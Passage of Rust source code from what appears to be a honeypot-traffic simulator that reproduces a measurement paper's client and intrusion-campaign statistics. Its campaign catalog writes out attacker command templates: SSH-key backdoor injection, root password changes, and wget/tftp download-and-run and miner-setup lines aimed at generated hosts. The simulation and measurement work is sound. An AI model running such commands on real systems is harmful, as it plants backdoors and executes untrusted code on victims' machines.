            let spec = catalog.get(crate::campaigns::CampaignId(cid));
            assert_eq!(count, spec.sessions_on(100), "campaign {}", spec.name);
        }
    }

    #[test]
    fn mirai77_campaign_targets_subset_only() {
        let (world, plan) = fixtures();
        let mut pool = ClientPool::new();
        let mut shared = SharedPools::default();
        let window = StudyWindow::paper();
        let catalog = CampaignCatalog::build(9, &Scale::tiny(), &window);
        let mut planner = CampaignPlanner::new(&catalog, window.num_days());
        let mut rng = SmallRng::seed_from_u64(7);
        let h24 = catalog.by_name("H24").unwrap();
        let allowed: std::collections::BTreeSet<u16> = h24.target_nodes(221).into_iter().collect();
        let mut out = Vec::new();
        let mut c = ctx(&world, &plan, &mut pool, &mut shared);
        // Sessions are spread sparsely across active days at tiny scale;
        // plan exactly the days that carry them.
        for &d in h24.active_days.iter().filter(|&&d| h24.sessions_on(d) > 0) {
            planner.plan_day(d, &catalog, &mut c, &mut rng, &mut out);
        }
        let h24_plans: Vec<&SessionPlan> = out
            .iter()
            .filter(|p| p.behavior == Behavior::Script { campaign: h24.id })
            .collect();
        assert!(!h24_plans.is_empty());
        assert!(h24_plans.iter().all(|p| allowed.contains(&p.honeypot)));
    }
}
