//! The client-IP pool.
//!
//! Section 7 characterizes ~2.1 M client IPs: 40% contact exactly one
//! honeypot, 18% more than ten, 2% more than half the farm (Fig. 12); most
//! are active a single day but >100 are active nearly every day (Fig. 13);
//! 40% appear in more than one activity category. The pool allocates clients
//! with a per-client *spread* (how many distinct honeypots it will ever
//! touch) and a stable per-client pseudo-random target set, and lets several
//! traffic sources share the same client (multi-role IPs).

use std::collections::HashSet;

use hf_geo::{CountryId, CountryMix, Ip4, World};
use hf_hash::Fnv64;
use rand::rngs::SmallRng;
use rand::Rng;

use crate::weights::HoneypotWeights;

/// Handle to a pooled client.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct ClientRef(pub u32);

/// One client IP and its behavioural constants.
#[derive(Debug, Clone)]
pub struct Client {
    /// The address (unique within the pool).
    pub ip: Ip4,
    /// Country the IP geolocates to.
    pub country: CountryId,
    /// Size of this client's honeypot target set (1..=n_honeypots).
    pub spread: u16,
    /// Per-client PRF seed realizing the stable target set.
    pub seed: u64,
}

/// Spread-distribution parameters: probability (permille) of each bucket.
/// Buckets: exactly 1 / 2..=10 / 11..=110 / 111..=n.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SpreadDist {
    /// Permille of clients contacting exactly one honeypot.
    pub single: u32,
    /// Permille contacting 2–10.
    pub few: u32,
    /// Permille contacting 11–110.
    pub many: u32,
    /// Permille contacting >110 (remainder).
    pub most: u32,
}

impl SpreadDist {
    /// The overall distribution of *potential* spread. Calibrated slightly
    /// above the paper's realized Fig. 12 buckets (40% single, 18% >10,
    /// 2% >110) because reuse across sources and long-lived wide clients
    /// dilute singles in the realized contact counts.
    pub fn paper_overall() -> Self {
        SpreadDist {
            single: 560,
            few: 330,
            many: 100,
            most: 10,
        }
    }

    /// FAIL_LOG clients spread widest (reconnaissance, Section 7.5).
    pub fn paper_scouting() -> Self {
        SpreadDist {
            single: 350,
            few: 400,
            many: 225,
            most: 25,
        }
    }

    /// Sample a spread value.
    pub fn sample<R: Rng + ?Sized>(&self, n_honeypots: u16, rng: &mut R) -> u16 {
        assert_eq!(self.single + self.few + self.many + self.most, 1000);
        let x = rng.gen_range(0..1000);
        let (lo, hi): (u16, u16) = if x < self.single {
            (1, 1)
        } else if x < self.single + self.few {
            (2, 10)
        } else if x < self.single + self.few + self.many {
            (11, 110.min(n_honeypots as u32) as u16)
        } else {
            (111.min(n_honeypots), n_honeypots)
        };
        if lo >= hi {
            lo.min(n_honeypots)
        } else {
            rng.gen_range(lo..=hi.min(n_honeypots))
        }
    }
}

/// The pool.
#[derive(Debug, Default)]
pub struct ClientPool {
    clients: Vec<Client>,
    used_ips: HashSet<Ip4>,
}

impl ClientPool {
    /// Empty pool.
    pub fn new() -> Self {
        Self::default()
    }

    /// Allocate a fresh client from `mix`, with a spread from `dist`.
    pub fn alloc(
        &mut self,
        world: &World,
        mix: &CountryMix,
        dist: SpreadDist,
        n_honeypots: u16,
        rng: &mut SmallRng,
    ) -> ClientRef {
        let country = mix.sample(rng);
        self.alloc_in_country(world, country, dist, n_honeypots, rng)
    }

    /// Allocate a fresh client homed in a specific country.
    pub fn alloc_in_country(
        &mut self,
        world: &World,
        country: CountryId,
        dist: SpreadDist,
        n_honeypots: u16,
        rng: &mut SmallRng,
    ) -> ClientRef {
        // Draw until the IP is unique (collisions are rare in /20-per-AS space).
        let mut ip = world.random_ip_in_country(country, rng);
        let mut tries = 0;
        while self.used_ips.contains(&ip) {
            ip = world.random_ip_in_country(country, rng);
            tries += 1;
            if tries > 64 {
                // Fall back to a linear probe in numeric space.
                ip = Ip4(ip.0.wrapping_add(1));
            }
        }
        self.used_ips.insert(ip);
        // The IP may have probed outside the country's AS; re-locate so the
        // stored geography always matches the collector's lookup.
        let located = world.locate(ip).map(|i| i.country).unwrap_or(country);
        let spread = dist.sample(n_honeypots, rng);
        let id = self.clients.len() as u32;
        self.clients.push(Client {
            ip,
            country: located,
            spread,
            seed: rng.gen(),
        });
        ClientRef(id)
    }

    /// Allocate a fresh client with its address inside a specific AS — used
    /// for the Russian-datacenter NO_CMD prefix, where "a single prefix
    /// originates most of these sessions" (Section 6).
    pub fn alloc_in_as(
        &mut self,
        world: &World,
        asn: hf_geo::Asn,
        dist: SpreadDist,
        n_honeypots: u16,
        rng: &mut SmallRng,
    ) -> ClientRef {
        let mut ip = world.random_ip_in_as(asn, rng);
        while self.used_ips.contains(&ip) {
            ip = Ip4(ip.0.wrapping_add(1));
        }
        self.used_ips.insert(ip);
        let located = world
            .locate(ip)
            .map(|i| i.country)
            .unwrap_or(CountryId(u16::MAX - 1));
        let spread = dist.sample(n_honeypots, rng);
        let id = self.clients.len() as u32;
        self.clients.push(Client {
            ip,
            country: located,
            spread,
            seed: rng.gen(),
        });
        ClientRef(id)
    }

    /// Look up a client.
    pub fn get(&self, r: ClientRef) -> &Client {
        &self.clients[r.0 as usize]
    }

    /// Number of allocated clients.
    pub fn len(&self) -> usize {
        self.clients.len()
    }

    /// Is the pool empty?
    pub fn is_empty(&self) -> bool {
        self.clients.is_empty()
    }
}

impl Client {
    /// The client's `j`-th stable target (j < spread) under a weight vector.
    pub fn target(&self, j: u16, weights: &HoneypotWeights) -> u16 {
        let h = Fnv64::new().mix_u64(self.seed).mix_u64(j as u64).finish();
        let u = (h >> 11) as f64 / (1u64 << 53) as f64;
        weights.pick(u)
    }

    /// Pick a target for one session: a uniformly random member of the
    /// client's stable target set.
    pub fn pick_target<R: Rng + ?Sized>(&self, weights: &HoneypotWeights, rng: &mut R) -> u16 {
        let j = rng.gen_range(0..self.spread.max(1));
        self.target(j, weights)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::weights::Dimension;
    use hf_geo::WorldConfig;
    use rand::SeedableRng;

    fn world() -> World {
        World::build(3, &WorldConfig::tiny())
    }

    #[test]
    fn allocated_ips_unique_and_geolocated() {
        let w = world();
        let mut pool = ClientPool::new();
        let mix = CountryMix::overall();
        let mut rng = SmallRng::seed_from_u64(5);
        for _ in 0..500 {
            pool.alloc(&w, &mix, SpreadDist::paper_overall(), 221, &mut rng);
        }
        assert_eq!(pool.len(), 500);
        let mut ips: Vec<Ip4> = (0..500).map(|i| pool.get(ClientRef(i)).ip).collect();
        ips.sort();
        ips.dedup();
        assert_eq!(ips.len(), 500);
        // Stored country always matches the collector's view.
        for i in 0..500 {
            let c = pool.get(ClientRef(i));
            assert_eq!(w.locate(c.ip).unwrap().country, c.country);
        }
    }

    #[test]
    fn spread_distribution_matches_buckets() {
        let dist = SpreadDist::paper_overall();
        let mut rng = SmallRng::seed_from_u64(6);
        let n = 100_000;
        let mut single = 0;
        let mut many = 0;
        let mut most = 0;
        for _ in 0..n {
            let s = dist.sample(221, &mut rng);
            if s == 1 {
                single += 1;
            }
            if s > 10 {
                many += 1;
            }
            if s > 110 {
                most += 1;
            }
        }
        let f = |x: i32| x as f64 / n as f64;
        assert!((f(single) - 0.56).abs() < 0.01, "single {}", f(single));
        assert!((f(many) - 0.11).abs() < 0.01, "many {}", f(many));
        assert!((f(most) - 0.01).abs() < 0.005, "most {}", f(most));
    }

    #[test]
    fn target_set_is_stable() {
        let c = Client {
            ip: Ip4::new(16, 0, 0, 1),
            country: CountryId(0),
            spread: 5,
            seed: 42,
        };
        let w = HoneypotWeights::paper_shape(221, Dimension::Sessions, 1);
        let set1: Vec<u16> = (0..5).map(|j| c.target(j, &w)).collect();
        let set2: Vec<u16> = (0..5).map(|j| c.target(j, &w)).collect();
        assert_eq!(set1, set2);
    }

    #[test]
    fn single_spread_client_hits_one_honeypot() {
        let c = Client {
            ip: Ip4::new(16, 0, 0, 2),
            country: CountryId(0),
            spread: 1,
            seed: 7,
        };
        let w = HoneypotWeights::uniform(221);
        let mut rng = SmallRng::seed_from_u64(1);
        let targets: std::collections::BTreeSet<u16> =
            (0..100).map(|_| c.pick_target(&w, &mut rng)).collect();
        assert_eq!(targets.len(), 1);
    }

    #[test]
    fn wide_spread_client_hits_many() {
        let c = Client {
            ip: Ip4::new(16, 0, 0, 3),
            country: CountryId(0),
            spread: 150,
            seed: 9,
        };
        let w = HoneypotWeights::uniform(221);
        let mut rng = SmallRng::seed_from_u64(2);
        let targets: std::collections::BTreeSet<u16> =
            (0..2000).map(|_| c.pick_target(&w, &mut rng)).collect();
        assert!(targets.len() > 80, "got {}", targets.len());
    }

    #[test]
    fn country_pinned_allocation() {
        let w = world();
        let mut pool = ClientPool::new();
        let mut rng = SmallRng::seed_from_u64(8);
        let ru = hf_geo::country::by_code("RU").unwrap();
        let c = pool.alloc_in_country(&w, ru, SpreadDist::paper_overall(), 221, &mut rng);
        // tiny worlds may lack RU ASes; country then reflects actual geo
        let client = pool.get(c);
        assert_eq!(w.locate(client.ip).unwrap().country, client.country);
    }
}
