//! The intrusion-campaign catalog.
//!
//! Section 8 of the paper characterizes campaigns by the hash of the file
//! their sessions create. Tables 4–6 publish, per headline hash: session
//! count, unique client IPs, active days, a VirusTotal-style tag, and the
//! number of honeypots contacted. We encode those hashes as explicit
//! [`CampaignSpec`]s (H1…H42 plus the two miners and the malicious entries of
//! Table 4), then procedurally generate the long tail — the >60,000 hashes
//! that are each seen by only a handful of honeypots — and the bursty
//! CMD+URI downloader families (Fig. 6: "sessions with URIs occur in
//! bursts"; Fig. 11: the June 2022 spike).
//!
//! A campaign's hash is *not* stored anywhere: it emerges from executing the
//! campaign's command script inside the emulated shell, exactly as on a live
//! honeypot. Two sessions of the same campaign produce the same file content
//! and therefore the same SHA-256.

use hf_geo::CountryMix;
use hf_hash::Fnv64;
use hf_simclock::{Date, StudyWindow};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};

use crate::scale::Scale;

/// Campaign identifier (index into the catalog).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct CampaignId(pub u32);

/// Threat tag, mirroring the labels the paper gets from VirusTotal et al.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Tag {
    Mirai,
    Trojan,
    Miner,
    Malicious,
    Suspicious,
    Unknown,
}

impl Tag {
    /// Stable label used in reports and the tag database.
    pub fn label(self) -> &'static str {
        match self {
            Tag::Mirai => "mirai",
            Tag::Trojan => "trojan",
            Tag::Miner => "miner",
            Tag::Malicious => "malicious",
            Tag::Suspicious => "suspicious",
            Tag::Unknown => "unknown",
        }
    }
}

/// Which honeypots a campaign touches.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TargetSet {
    /// A fixed pseudo-random subset of `size` honeypots chosen by `seed`.
    /// The Mirai-77 family shares one seed, so its members hit the same
    /// 75–77 nodes (Table 6's striking observation).
    Subset { seed: u64, size: u16 },
    /// Subset, but biased toward honeypots on the client's continent —
    /// models the CMD+URI locality of Fig. 16(b).
    LocalSubset { seed: u64, size: u16 },
    /// Subset drawn under the hash-diversity popularity vector: long-tail
    /// campaigns concentrate on the hash-rich honeypots, which is what makes
    /// those nodes both hash-rich and early observers (Figs. 18/19).
    HashWeightedSubset { seed: u64, size: u16 },
}

/// The script family a campaign runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ScriptKind {
    /// `echo "ssh-rsa …" >> /root/.ssh/authorized_keys` — H1's SSH-key trojan.
    TrojanKey,
    /// `echo <blob> > /tmp/.f; chmod 777; run` — generic dropper (no URI).
    DropperEcho,
    /// `echo root:<pw> | chpasswd` — credential change (hash via /etc/shadow).
    CredChange,
    /// `wget http://…; chmod 777; run` — SSH downloader (CMD+URI).
    DownloaderWget,
    /// `tftp -g -r … ; run` — Telnet/IoT downloader (CMD+URI).
    DownloaderTftp,
    /// `wget miner + echo config.json` — two file events per session.
    MinerSetup,
}

impl ScriptKind {
    /// Does the script reference an external URI?
    pub fn has_uri(self) -> bool {
        matches!(
            self,
            ScriptKind::DownloaderWget | ScriptKind::DownloaderTftp | ScriptKind::MinerSetup
        )
    }
}

/// One campaign.
#[derive(Debug, Clone)]
pub struct CampaignSpec {
    /// Catalog id.
    pub id: CampaignId,
    /// Human name ("H1", "tail-00042", …).
    pub name: String,
    /// Threat tag.
    pub tag: Tag,
    /// Script family.
    pub kind: ScriptKind,
    /// Seed determining payload bytes (and thus the hash) per variant.
    pub payload_seed: u64,
    /// Number of payload variants. Variant `v` is active on the `v`-th
    /// activity *block* (contiguous run of active days), so multi-variant
    /// campaigns yield fresh hashes when they re-appear.
    pub n_variants: u32,
    /// Total sessions over the campaign's life (already scaled).
    pub total_sessions: u64,
    /// Distinct client IPs over its life (already scaled; ≥1).
    pub n_clients: u64,
    /// Sorted list of active day indices.
    pub active_days: Vec<u32>,
    /// Honeypot targeting.
    pub targets: TargetSet,
    /// Permille of sessions using Telnet (rest SSH).
    pub telnet_permille: u32,
    /// Fixed credentials, or `None` to sample from the credential model.
    /// (The Mirai-77 family always uses root:1234 — Section 8.2.)
    pub fixed_password: Option<&'static str>,
    /// Client origin mix.
    pub origin: CountryMix,
    /// Fraction (permille) of this campaign's clients drawn from the shared
    /// bruteforce pool (multi-role IPs, Fig. 15).
    pub reuse_bruteforce_permille: u32,
}

impl CampaignSpec {
    /// Is the campaign active on `day`?
    pub fn active_on(&self, day: u32) -> bool {
        self.active_days.binary_search(&day).is_ok()
    }

    /// Sessions to emit on `day` (0 if inactive). The total is spread evenly
    /// over the active days; when there are fewer sessions than active days
    /// the sessions land on evenly spaced days across the whole life (so a
    /// scaled-down long-haul campaign still spans its full window rather
    /// than bunching at the start).
    pub fn sessions_on(&self, day: u32) -> u64 {
        match self.active_days.binary_search(&day) {
            Err(_) => 0,
            Ok(idx) => {
                let n = self.active_days.len() as u64;
                let idx = idx as u64;
                // Count of sessions allotted to days [0, idx] minus [0, idx):
                // evenly spaced via the floor trick.
                let upto = |i: u64| i * self.total_sessions / n;
                upto(idx + 1) - upto(idx)
            }
        }
    }

    /// Variant active on `day`: the index of the activity block containing
    /// `day`, modulo `n_variants`.
    pub fn variant_on(&self, day: u32) -> u32 {
        if self.n_variants <= 1 {
            return 0;
        }
        let mut block = 0u32;
        let mut prev: Option<u32> = None;
        for &d in &self.active_days {
            if let Some(p) = prev {
                if d > p + 1 {
                    block += 1;
                }
            }
            if d == day {
                return block % self.n_variants;
            }
            if d > day {
                break;
            }
            prev = Some(d);
        }
        block % self.n_variants
    }

    /// The payload token for a variant: a deterministic pseudo-random blob
    /// rendered as hex, unique per (campaign, variant).
    pub fn payload_token(&self, variant: u32) -> String {
        let h1 = Fnv64::new()
            .mix_u64(self.payload_seed)
            .mix_u64(variant as u64)
            .finish();
        let h2 = Fnv64::new().mix_u64(h1).mix(b"pad").finish();
        format!("{h1:016x}{h2:016x}")
    }

    /// Body bytes served for this campaign's downloads.
    pub fn payload_bytes(&self, variant: u32) -> Vec<u8> {
        let mut body = b"\x7fELF\x01\x01\x01\x00".to_vec();
        body.extend_from_slice(self.payload_token(variant).as_bytes());
        body.extend_from_slice(format!("|{}|{}", self.name, variant).as_bytes());
        body
    }

    /// The URI a downloader variant fetches from, if any.
    pub fn uri(&self, variant: u32) -> Option<String> {
        if !self.kind.has_uri() {
            return None;
        }
        let h = Fnv64::new()
            .mix_u64(self.payload_seed)
            .mix(b"host")
            .finish();
        let host = format!(
            "{}.{}.{}.{}",
            45 + (h % 150) as u8,
            (h >> 8) as u8,
            (h >> 16) as u8,
            1 + ((h >> 24) % 250) as u8
        );
        let file = self.binary_name(variant);
        Some(match self.kind {
            ScriptKind::DownloaderTftp => format!("tftp://{host}/{file}"),
            _ => format!("http://{host}/bins/{file}"),
        })
    }

    /// Name of the dropped binary.
    pub fn binary_name(&self, variant: u32) -> String {
        let archs = ["x86", "arm7", "mips", "mpsl", "arm", "x86_64", "sh4", "ppc"];
        let h = Fnv64::new()
            .mix_u64(self.payload_seed)
            .mix(b"bin")
            .mix_u64(variant as u64)
            .finish();
        format!(
            "b{:x}.{}",
            h % 0xffff,
            archs[(h >> 16) as usize % archs.len()]
        )
    }

    /// The command lines this campaign's sessions execute, for a variant.
    pub fn script(&self, variant: u32) -> Vec<String> {
        let token = self.payload_token(variant);
        match self.kind {
            ScriptKind::TrojanKey => vec![
                "cat /proc/cpuinfo | grep name | wc -l".to_string(),
                format!(
                    "cd /root; mkdir -p .ssh; echo \"ssh-rsa AAAAB3{token} rsa@vps\" >> .ssh/authorized_keys; chmod 700 .ssh"
                ),
                "uname -a; whoami".to_string(),
            ],
            ScriptKind::DropperEcho => {
                let f = format!(".{}", &token[..6]);
                vec![
                    "cd /tmp".to_string(),
                    format!("echo {token} > {f}"),
                    format!("chmod 777 {f}"),
                    format!("./{f}"),
                ]
            }
            ScriptKind::CredChange => vec![
                "uname -a".to_string(),
                format!("echo root:{} | chpasswd", &token[..10]),
                "history".to_string(),
            ],
            ScriptKind::DownloaderWget => {
                let uri = self.uri(variant).expect("wget kind has uri");
                let f = self.binary_name(variant);
                vec![
                    "cd /tmp || cd /var/run || cd /mnt".to_string(),
                    format!("wget {uri}"),
                    format!("chmod 777 {f}"),
                    format!("./{f}"),
                    format!("rm -rf {f}"),
                ]
            }
            ScriptKind::DownloaderTftp => {
                let uri = self.uri(variant).expect("tftp kind has uri");
                // tftp://host/file → `tftp -g -r file host`
                let rest = uri.strip_prefix("tftp://").unwrap();
                let (host, file) = rest.split_once('/').unwrap();
                vec![
                    "cd /tmp".to_string(),
                    format!("tftp -g -r {file} {host}"),
                    format!("chmod 777 {file}"),
                    format!("./{file}"),
                ]
            }
            ScriptKind::MinerSetup => {
                let uri = self.uri(variant).expect("miner kind has uri");
                let f = self.binary_name(variant);
                vec![
                    "cd /opt".to_string(),
                    format!("wget {uri}"),
                    format!("chmod 777 {f}"),
                    format!("echo '{{\"pool\":\"pool.minexmr.example:4444\",\"wallet\":\"{token}\"}}' > config.json"),
                    format!("nohup ./{f}"),
                ]
            }
        }
    }

    /// Members of this campaign's honeypot target subset.
    pub fn target_nodes(&self, n_honeypots: u16) -> Vec<u16> {
        let (seed, size, weighted) = match self.targets {
            TargetSet::Subset { seed, size } | TargetSet::LocalSubset { seed, size } => {
                (seed, size, false)
            }
            TargetSet::HashWeightedSubset { seed, size } => (seed, size, true),
        };
        let size = size.min(n_honeypots);
        let mut rng = SmallRng::seed_from_u64(seed);
        if weighted {
            let weights = crate::weights::HoneypotWeights::paper_shape(
                n_honeypots as usize,
                crate::weights::Dimension::Hashes,
                0,
            );
            let mut out = Vec::with_capacity(size as usize);
            let mut tries = 0;
            while out.len() < size as usize && tries < 4096 {
                let node = weights.sample(&mut rng);
                if !out.contains(&node) {
                    out.push(node);
                }
                tries += 1;
            }
            // Fill any remainder uniformly (degenerate tiny farms).
            let mut next = 0u16;
            while out.len() < size as usize {
                if !out.contains(&next) {
                    out.push(next);
                }
                next += 1;
            }
            out.sort_unstable();
            return out;
        }
        let mut all: Vec<u16> = (0..n_honeypots).collect();
        // Partial Fisher–Yates: first `size` entries become the subset.
        for i in 0..size as usize {
            let j = rng.gen_range(i..all.len());
            all.swap(i, j);
        }
        all.truncate(size as usize);
        all.sort_unstable();
        all
    }
}

/// Recon scripts for CMD sessions that do *not* create files (the paper: two
/// thirds of command sessions involve no file-system write).
pub fn recon_script(variant: u64) -> Vec<String> {
    const TEMPLATES: &[&[&str]] = &[
        &["uname -a", "cat /proc/cpuinfo | grep model", "free -m"],
        &["uname -s -m", "nproc", "w"],
        &[
            "cat /proc/cpuinfo | grep name | wc -l",
            "free -m | grep Mem",
            "ls /bin",
        ],
        &["ps x", "which busybox sh", "uname -a"],
        &["cat /proc/version", "uptime", "whoami"],
        &["top", "df", "cat /proc/meminfo | head -2"],
        &["echo -e bves7983x", "uname -a"],
        &["w", "history", "ifconfig"],
    ];
    TEMPLATES[(variant % TEMPLATES.len() as u64) as usize]
        .iter()
        .map(|s| s.to_string())
        .collect()
}

/// Paper-calibrated headline campaigns (values at scale 1.0):
/// (name, tag, kind, sessions, clients, active days, honeypots,
///  telnet‰, fixed password, span = (start_frac, end_frac) of the window,
///  duty discontinuous?)
struct Headliner {
    name: &'static str,
    tag: Tag,
    kind: ScriptKind,
    sessions: f64,
    clients: f64,
    days: u32,
    honeypots: u16,
    telnet_permille: u32,
    fixed_password: Option<&'static str>,
    /// First day of the campaign's life.
    start_day: u32,
    /// Span of days its life stretches over (>= days; gaps are breaks).
    span: u32,
}

/// Day index helper for calendar anchors.
fn day_of(window: &StudyWindow, y: i32, m: u8, d: u8) -> u32 {
    window.day_index(Date::new(y, m, d)).unwrap_or(0)
}

#[rustfmt::skip] // one headliner per line keeps the Table 4–6 data scannable
fn headliners(window: &StudyWindow) -> Vec<Headliner> {
    use ScriptKind::*;
    use Tag::*;
    let jun22 = day_of(window, 2022, 6, 1);
    vec![
        // The dominant SSH-key trojan: all honeypots, almost every day.
        Headliner { name: "H1", tag: Trojan, kind: TrojanKey, sessions: 25_688_228.0, clients: 118_924.0, days: 484, honeypots: 221, telnet_permille: 20, fixed_password: None, start_day: 0, span: 486 },
        // 3 clients, half the period with breaks, almost all honeypots.
        Headliner { name: "H2", tag: Unknown, kind: DropperEcho, sessions: 153_672.0, clients: 3.0, days: 252, honeypots: 202, telnet_permille: 0, fixed_password: Some("3245gs5662d34"), start_day: 60, span: 400 },
        Headliner { name: "H3", tag: Trojan, kind: TrojanKey, sessions: 110_280.0, clients: 12_698.0, days: 119, honeypots: 150, telnet_permille: 10, fixed_password: None, start_day: 150, span: 140 },
        Headliner { name: "H4", tag: Mirai, kind: DownloaderWget, sessions: 105_102.0, clients: 1_288.0, days: 20, honeypots: 203, telnet_permille: 350, fixed_password: Some("1234"), start_day: 210, span: 20 },
        Headliner { name: "H5", tag: Mirai, kind: DownloaderTftp, sessions: 96_523.0, clients: 1_027.0, days: 451, honeypots: 221, telnet_permille: 600, fixed_password: Some("1234"), start_day: 10, span: 470 },
        // Malicious entries of Table 4 (few clients, many sessions).
        Headliner { name: "Hm1", tag: Malicious, kind: DropperEcho, sessions: 80_000.0, clients: 300.0, days: 60, honeypots: 180, telnet_permille: 50, fixed_password: None, start_day: 120, span: 70 },
        Headliner { name: "Hm2", tag: Malicious, kind: CredChange, sessions: 70_000.0, clients: 150.0, days: 45, honeypots: 160, telnet_permille: 0, fixed_password: None, start_day: 300, span: 50 },
        Headliner { name: "Hm3", tag: Malicious, kind: DropperEcho, sessions: 60_000.0, clients: 90.0, days: 90, honeypots: 190, telnet_permille: 0, fixed_password: None, start_day: 30, span: 100 },
        Headliner { name: "Hm4", tag: Malicious, kind: CredChange, sessions: 52_000.0, clients: 60.0, days: 35, honeypots: 150, telnet_permille: 0, fixed_password: None, start_day: 400, span: 40 },
        Headliner { name: "Hm5", tag: Malicious, kind: DropperEcho, sessions: 48_000.0, clients: 45.0, days: 25, honeypots: 140, telnet_permille: 0, fixed_password: None, start_day: 250, span: 30 },
        Headliner { name: "H9", tag: Trojan, kind: TrojanKey, sessions: 57_726.0, clients: 43.0, days: 220, honeypots: 173, telnet_permille: 0, fixed_password: None, start_day: 100, span: 260 },
        Headliner { name: "H10", tag: Mirai, kind: DownloaderWget, sessions: 54_464.0, clients: 488.0, days: 6, honeypots: 209, telnet_permille: 400, fixed_password: Some("1234"), start_day: 280, span: 6 },
        Headliner { name: "H8", tag: Mirai, kind: DownloaderWget, sessions: 45_000.0, clients: 165.0, days: 4, honeypots: 200, telnet_permille: 400, fixed_password: Some("1234"), start_day: 190, span: 4 },
        // Miners: one single-client month-long, one 12-day 200-client.
        Headliner { name: "M1", tag: Miner, kind: MinerSetup, sessions: 40_000.0, clients: 1.0, days: 30, honeypots: 210, telnet_permille: 0, fixed_password: None, start_day: 330, span: 30 },
        Headliner { name: "M2", tag: Miner, kind: MinerSetup, sessions: 20_000.0, clients: 200.0, days: 12, honeypots: 205, telnet_permille: 0, fixed_password: None, start_day: 95, span: 12 },
        Headliner { name: "H33", tag: Mirai, kind: DownloaderTftp, sessions: 29_227.0, clients: 575.0, days: 456, honeypots: 221, telnet_permille: 600, fixed_password: Some("1234"), start_day: 5, span: 480 },
        Headliner { name: "H21", tag: Suspicious, kind: DropperEcho, sessions: 16_670.0, clients: 5_897.0, days: 9, honeypots: 205, telnet_permille: 100, fixed_password: None, start_day: jun22, span: 9 },
        Headliner { name: "H38", tag: Trojan, kind: TrojanKey, sessions: 10_834.0, clients: 4.0, days: 172, honeypots: 197, telnet_permille: 0, fixed_password: None, start_day: 200, span: 230 },
        Headliner { name: "H41", tag: Trojan, kind: TrojanKey, sessions: 8_309.0, clients: 4.0, days: 145, honeypots: 193, telnet_permille: 0, fixed_password: None, start_day: 220, span: 190 },
        Headliner { name: "H40", tag: Unknown, kind: DropperEcho, sessions: 7_532.0, clients: 5.0, days: 151, honeypots: 4, telnet_permille: 0, fixed_password: None, start_day: 150, span: 200 },
        Headliner { name: "H36", tag: Mirai, kind: DownloaderWget, sessions: 6_213.0, clients: 399.0, days: 325, honeypots: 220, telnet_permille: 500, fixed_password: Some("1234"), start_day: 40, span: 430 },
        Headliner { name: "H37", tag: Mirai, kind: DownloaderWget, sessions: 4_875.0, clients: 27.0, days: 274, honeypots: 217, telnet_permille: 300, fixed_password: Some("1234"), start_day: 80, span: 360 },
        Headliner { name: "H35", tag: Unknown, kind: DropperEcho, sessions: 2_809.0, clients: 416.0, days: 8, honeypots: 193, telnet_permille: 0, fixed_password: None, start_day: 260, span: 8 },
        Headliner { name: "H22", tag: Unknown, kind: DropperEcho, sessions: 4_680.0, clients: 2_213.0, days: 16, honeypots: 206, telnet_permille: 200, fixed_password: None, start_day: 170, span: 16 },
        Headliner { name: "H23", tag: Unknown, kind: CredChange, sessions: 1_803.0, clients: 1_310.0, days: 63, honeypots: 126, telnet_permille: 100, fixed_password: None, start_day: 350, span: 80 },
        Headliner { name: "H27", tag: Malicious, kind: DropperEcho, sessions: 1_208.0, clients: 1_067.0, days: 30, honeypots: 113, telnet_permille: 100, fixed_password: None, start_day: 55, span: 30 },
        Headliner { name: "H31", tag: Suspicious, kind: DropperEcho, sessions: 1_191.0, clients: 704.0, days: 3, honeypots: 185, telnet_permille: 0, fixed_password: None, start_day: 400, span: 3 },
        Headliner { name: "H34", tag: Trojan, kind: TrojanKey, sessions: 761.0, clients: 448.0, days: 301, honeypots: 118, telnet_permille: 0, fixed_password: None, start_day: 90, span: 380 },
        Headliner { name: "H39", tag: Mirai, kind: DownloaderTftp, sessions: 981.0, clients: 19.0, days: 159, honeypots: 75, telnet_permille: 700, fixed_password: Some("1234"), start_day: 120, span: 240 },
        Headliner { name: "H42", tag: Trojan, kind: TrojanKey, sessions: 660.0, clients: 13.0, days: 145, honeypots: 63, telnet_permille: 0, fixed_password: None, start_day: 180, span: 220 },
        // The Mirai-77 family: same subset of 75–77 honeypots, root:1234.
        Headliner { name: "H24", tag: Mirai, kind: DownloaderTftp, sessions: 2_279.0, clients: 1_144.0, days: 425, honeypots: 77, telnet_permille: 800, fixed_password: Some("1234"), start_day: 20, span: 460 },
        Headliner { name: "H25", tag: Mirai, kind: DownloaderTftp, sessions: 2_250.0, clients: 1_126.0, days: 424, honeypots: 77, telnet_permille: 800, fixed_password: Some("1234"), start_day: 22, span: 458 },
        Headliner { name: "H26", tag: Mirai, kind: DownloaderTftp, sessions: 2_187.0, clients: 1_108.0, days: 423, honeypots: 77, telnet_permille: 800, fixed_password: Some("1234"), start_day: 24, span: 456 },
        Headliner { name: "H28", tag: Mirai, kind: DownloaderTftp, sessions: 1_485.0, clients: 752.0, days: 305, honeypots: 76, telnet_permille: 800, fixed_password: Some("1234"), start_day: 60, span: 400 },
        Headliner { name: "H29", tag: Mirai, kind: DownloaderTftp, sessions: 1_503.0, clients: 750.0, days: 312, honeypots: 76, telnet_permille: 800, fixed_password: Some("1234"), start_day: 58, span: 410 },
        Headliner { name: "H30", tag: Mirai, kind: DownloaderTftp, sessions: 1_443.0, clients: 736.0, days: 305, honeypots: 76, telnet_permille: 800, fixed_password: Some("1234"), start_day: 62, span: 400 },
        Headliner { name: "H32", tag: Mirai, kind: DownloaderTftp, sessions: 1_213.0, clients: 610.0, days: 281, honeypots: 75, telnet_permille: 800, fixed_password: Some("1234"), start_day: 90, span: 380 },
    ]
}

/// The assembled catalog.
#[derive(Debug)]
pub struct CampaignCatalog {
    specs: Vec<CampaignSpec>,
    /// Ids of headline campaigns by name.
    headline_ids: Vec<(String, CampaignId)>,
}

/// Long-tail generation budget (scale-1.0 values).
const TAIL_HASHES: f64 = 61_000.0;
const TAIL_SESSIONS: f64 = 1_500_000.0;
/// Days of the paper's full window (for prorating truncated test windows).
